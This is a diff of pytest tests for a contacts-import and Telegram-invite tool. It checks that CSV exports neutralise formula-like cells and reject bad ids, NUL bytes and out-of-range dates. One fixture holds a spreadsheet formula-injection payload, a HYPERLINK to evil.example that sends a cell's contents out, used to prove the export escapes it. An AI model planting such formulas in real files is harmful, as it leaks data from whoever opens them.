@@ -189,6 +189,28 @@ async def test_contacts_without_a_chat_get_a_personal_link_file(
     assert not list(links.parent.glob(".*tmp"))
 
 
+async def test_crm_names_that_look_like_formulas_are_written_as_text(
+    database: Database, tmp_path: Path
+) -> None:
+    """A spreadsheet opens the links file (with its BOM, on purpose): no cell may run."""
+    crm = tmp_path / "crm.csv"
+    crm.write_text('external_id,name,account,role,segment\n'
+                   '-17,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",+Acme,@buyer,smb\n'
+                   'CRM-2,"\tTab",-,Buyer,smb\n', encoding="utf-8")
+    await import_contacts(database, parse_contacts(crm).rows, now=SUNDAY)
+    links = tmp_path / "links.csv"
+    report = await invite(database, flow(), segment="smb", links=links)
+    assert report.by_link == 2
+    rows = list(csv.reader(links.read_text(encoding="utf-8-sig").splitlines()))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    first = dict(zip(rows[0], rows[1], strict=True))
+    assert first["external_id"] == "'-17"  # an id is text: it keeps its sign, as text
+    assert first["name"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    assert (first["account"], first["role"]) == ("'+Acme", "'@buyer")
+    assert first["link"].startswith("https://t.me/sada_test_bot?start=")
+
+
 async def test_without_the_bots_username_the_others_are_invited_and_a_later_run_links(
     database: Database, store: Store, tmp_path: Path
 ) -> None:
@@ -299,6 +321,20 @@ async def test_contacts_listed_in_a_file(database: Database, store: Store,
     nothing.write_text("name\nSara\n", encoding="utf-8")
     with pytest.raises(ValueError, match="no contact_id, telegram_id or external_id column"):
         await contacts_from_file(database, nothing)
+    # ids no database holds, and a superscript that is not a digit: unknown, not a crash
+    odd = tmp_path / "odd.csv"
+    odd.write_text(f"contact_id\n{2**70}\n²\n", encoding="utf-8")
+    with pytest.raises(ValueError) as raised:
+        await contacts_from_file(database, odd)
+    assert str(raised.value).splitlines() == [
+        f"{odd}:2: contact_id {2**70} is not a known contact (import it first with `sada "
+        "contacts import`)",
+        f"{odd}:3: contact_id ² is not a known contact (import it first with `sada contacts "
+        "import`)"]
+    nul = tmp_path / "nul.csv"
+    nul.write_bytes(b"external_id\nCRM-\x0017\n")
+    with pytest.raises(ValueError, match=r"nul.csv:2: column 1: NUL character"):
+        await contacts_from_file(database, nul)
 
 
 # --- options ------------------------------------------------------------------------------
@@ -314,6 +350,13 @@ def test_parse_at() -> None:
     assert parse_at("2020-01-01 09:00", now) == now  # the past means now
     with pytest.raises(InviteError, match=r"--at 'tomorrow' is not a time: use"):
         parse_at("tomorrow", now)
+    # any digits, and times no calendar arithmetic can reach are one line, not OverflowError
+    assert parse_at("२०२६-१२-०१ ०९:००", now) == datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
+    for far in ("9999-12-31T23:59+14:00", "0001-01-01T00:00+14:00"):
+        with pytest.raises(InviteError) as raised:
+            parse_at(far, now)
+        assert str(raised.value) == (f"--at '{far}' is out of range: give a date between "
+                                     "1970-01-01 and 2999-12-31")
 
 
 def test_check_context() -> None:
@@ -413,9 +456,13 @@ def test_cli_invite_on_the_readme_sample_without_a_bot_username(
          "cannot be combined"),
         (["--flow", "account-review", "--segment", "nobody", "-c", "touchpoint=a"], 1,
          "no contacts match segment 'nobody'"),
+        (["--flow", "account-review", "--segment", "enterprise", "-c", "touchpoint=a",
+          "--at", "9999-12-31T23:59+14:00"], 2,
+         "--at '9999-12-31T23:59+14:00' is out of range: give a date between 1970-01-01 "
+         "and 2999-12-31"),
     ],
     ids=["unknown-flow", "bad-at", "bad-context", "missing-file", "no-audience",
-         "two-audiences", "no-match"],
+         "two-audiences", "no-match", "far-at"],
 )
 def test_cli_invite_errors_are_one_line(cli_db: str, tmp_path: Path, args: list[str],
                                         code: int, expected: str) -> None:
